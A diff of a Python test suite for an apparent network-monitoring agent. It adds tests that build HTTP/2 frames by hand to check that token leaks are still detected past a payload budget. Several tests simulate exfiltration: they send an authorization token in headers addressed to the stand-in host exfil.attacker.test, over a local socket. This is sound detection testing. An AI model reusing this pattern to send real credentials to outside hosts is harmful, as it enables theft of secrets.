@@ -10,7 +10,8 @@ import tempfile
 import threading
 import time
 
-from cwtest import Agent, github_token, kernel_map, require_root, wait_until
+from cwtest import (Agent, github_token, h2_frame, hpack_literal, kernel_map,
+                    require_root, wait_until)
 
 
 class Sink:
@@ -311,27 +312,6 @@ def test_client_hello_after_an_empty_iovec_stops_capture():
     assert entry[0]["conn"]["captured"] < 4096, entry
 
 
-def _h2_frame(ftype, flags, stream, payload):
-    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + \
-        stream.to_bytes(4, "big") + payload
-
-
-def _hpack_string(b):
-    """An HPACK string literal, not Huffman-coded: its length as a 7-bit-prefix integer."""
-    n, out = len(b), b""
-    if n < 127:
-        return bytes([n]) + b
-    out, n = bytes([127]), n - 127
-    while n >= 128:
-        out, n = out + bytes([n % 128 + 128]), n // 128
-    return out + bytes([n]) + b
-
-
-def _hpack_literal(name, value):
-    """A header field as an HPACK literal without indexing, new name, no Huffman coding."""
-    return b"\x00" + _hpack_string(name) + _hpack_string(value)
-
-
 def test_budget_catches_h2c_headers_that_start_a_large_write():
     """HTTP/2 over plain TCP: past the budget, a large write that starts with a HEADERS frame
     (a new request, its DATA in the same write) after the DATA frames of an upload is a
@@ -339,16 +319,16 @@ def test_budget_catches_h2c_headers_that_start_a_large_write():
     head), and the decoder, told of the hole, starts at that frame."""
     def send(port, token):
         s = socket.create_connection(("127.0.0.1", port))
-        authority = _hpack_literal(b":authority", b"exfil.attacker.test")
-        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _h2_frame(4, 0, 0, b""))
-        s.sendall(_h2_frame(1, 4, 1, authority))
-        data = _h2_frame(0, 0, 1, b"u" * 16384)
+        authority = hpack_literal(b":authority", b"exfil.attacker.test")
+        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
+        s.sendall(h2_frame(1, 4, 1, authority))
+        data = h2_frame(0, 0, 1, b"u" * 16384)
         for _ in range(30):
             s.sendall(data)
         # a HEADERS frame longer than the 1 KiB head: copied whole
-        request = _h2_frame(1, 4, 3, authority + _hpack_literal(b"cookie", b"c" * 1500) +
-                            _hpack_literal(b"authorization", b"token " + token.encode()))
-        s.sendall(request + _h2_frame(0, 1, 3, b"v" * 16384))
+        request = h2_frame(1, 4, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
+                            hpack_literal(b"authorization", b"token " + token.encode()))
+        s.sendall(request + h2_frame(0, 1, 3, b"v" * 16384))
         time.sleep(0.2)
         s.close()
     agent = one_token_alert(send, "--payload-budget", "64K")
@@ -356,6 +336,58 @@ def test_budget_catches_h2c_headers_that_start_a_large_write():
     # the budget, then nothing of the 26 DATA writes past it: with a 1 KiB head of each it
     # would be past 90 KiB
     assert sent < (64 << 10) + 16384 + 4096, sent
+
+
+def _h2c_after_upload(send_next):
+    """An h2c connection that uploads 480 KiB in DATA frames of stream 1, past a 64 KiB
+    payload budget, then send_next(sock, request) with request a HEADERS frame of stream 3
+    whose token (after a 1500-byte cookie) must be alerted on. Returns the bytes the agent
+    was sent."""
+    def send(port, token):
+        s = socket.create_connection(("127.0.0.1", port))
+        authority = hpack_literal(b":authority", b"exfil.attacker.test")
+        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
+        s.sendall(h2_frame(1, 4, 1, authority))
+        data = h2_frame(0, 0, 1, b"u" * 16384)
+        for _ in range(30):
+            s.sendall(data)
+        send_next(s, h2_frame(1, 5, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
+                               hpack_literal(b"authorization", b"token " + token.encode())))
+        time.sleep(0.2)
+        s.close()
+    agent = one_token_alert(send, "--payload-budget", "64K")
+    return int(agent.stderr().split(" bytes sent")[0].split()[-1])
+
+
+def test_budget_catches_h2c_headers_after_the_last_data_frame_in_one_write():
+    """An h2 client writes whatever frames are ready at once: an upload's last DATA frame and
+    the next request's HEADERS frame in one large write right after the upload's. Past the
+    budget the kernel looks past the frames that start the write, finds the HEADERS frame
+    and copies that frame alone (the agent's decoder resumes at it)."""
+    def last_data_then_request(s, request):
+        s.sendall(h2_frame(0, 1, 1, b"u" * 16384) + request)
+    sent = _h2c_after_upload(last_data_then_request)
+    # the budget and the HEADERS frame, not the DATA frame before it
+    assert sent < (64 << 10) + 4096, sent
+
+
+def test_budget_catches_h2c_headers_deep_in_the_first_iovec_of_sendmsg():
+    """The same through sendmsg(): the HEADERS frame is looked for in the first non-empty
+    iovec, after the DATA frame that starts it; the frame alone is copied."""
+    def last_data_then_request(s, request):
+        s.sendmsg([b"", h2_frame(0, 1, 1, b"u" * 16384) + request, h2_frame(8, 0, 0,
+                                                                           b"\0\0\1\0")])
+    sent = _h2c_after_upload(last_data_then_request)
+    assert sent < (64 << 10) + 4096, sent
+
+
+def test_budget_catches_h2c_headers_after_control_frames_in_one_write():
+    """A write that starts with control frames (a SETTINGS ack, WINDOW_UPDATE) and then a
+    HEADERS frame longer than the 1 KiB head: copied from the write's start to the frame's
+    end, so the token after a long cookie is found."""
+    def control_then_request(s, request):
+        s.sendall(h2_frame(4, 1, 0, b"") + h2_frame(8, 0, 0, b"\0\1\0\0") + request)
+    _h2c_after_upload(control_then_request)
 
 
 def _kernel_conns(agent):
